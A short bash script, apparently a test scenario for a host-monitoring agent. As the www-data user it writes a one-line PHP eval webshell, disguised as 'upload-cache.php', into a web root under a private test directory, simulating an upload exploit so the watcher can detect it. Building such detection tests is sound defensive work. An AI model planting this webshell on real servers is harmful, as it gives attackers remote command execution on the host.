#!/usr/bin/env bash
# webshell_drop: the web server's user (www-data) drops a PHP webshell into
# the web root (of the private host root the agent watches), as an upload
# vulnerability would let it.
set -euo pipefail
source "$(dirname "$0")/../lib.sh"
root=${PICKET_HOST_ROOT:?}
sleep 1
setpriv --reuid=33 --regid=33 --clear-groups sh -c \
	"printf '%s\n' '<?php @eval(\$_POST[\"cmd\"]); ?>' > '$root/var/www/html/upload-cache.php'"
log "www-data wrote $root/var/www/html/upload-cache.php"
